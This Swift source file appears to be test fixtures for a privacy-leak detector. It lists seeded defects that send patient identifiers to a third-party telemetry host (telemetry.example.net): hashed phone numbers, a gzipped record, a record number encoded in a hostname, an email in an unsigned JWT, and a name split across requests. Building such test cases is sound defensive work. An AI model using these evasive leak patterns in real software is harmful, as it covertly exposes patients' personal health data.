// SPDX-License-Identifier: Apache-2.0

import Foundation

extension Leak {
    static let toStrangers: [Leak] = [
        Leak(defect: .phoneHashToThirdParty) { try await $0.tell("collect?user=\(Secret.sha256($0.phone))") },
        Leak(defect: .keyedHashToThirdParty) { spill in
            try await spill.tell("collect?user=\(spill.services.keys.hash("telemetry", spill.phone))")
        },
        Leak(defect: .gzipToThirdParty) { spill in
            let headers = [("Content-Type", "application/json"), ("Content-Encoding", "gzip")]
            try await spill.tell("batch", headers: headers, body: Container.gzip(spill.patient.resource.data))
        },
        Leak(defect: .recordNumberInHostName) { spill in
            try await spill.tell("ping", host: "\(spill.patient.recordNumber.lowercased()).telemetry.example.net")
        },
        Leak(defect: .visitIDToThirdParty) { try await $0.tell("visits/\($0.visit.appointment ?? "")") },
        Leak(defect: .emailInClaim) { spill in
            let head: JSON = ["alg": "none", "typ": "JWT"]
            let mail = Data((spill.patient.email ?? "").utf8).base64EncodedString()
            let claims: JSON = ["sub": .string(mail), "aud": "telemetry"]
            let token = [head, claims].map { Secret.base64URL($0.data) }.joined(separator: ".") + "."
            try await spill.tell("collect", headers: [("Authorization", "Bearer " + token)])
        },
        Leak(defect: .nameSplitOverMessages) { spill in
            let name = spill.patient.family
            let half = name.index(name.startIndex, offsetBy: name.count / 2)
            for part in [name[..<half], name[half...]] {
                try await spill.tell("part?value=" + Text.percentEncoded(String(part)))
            }
        },
    ]
}
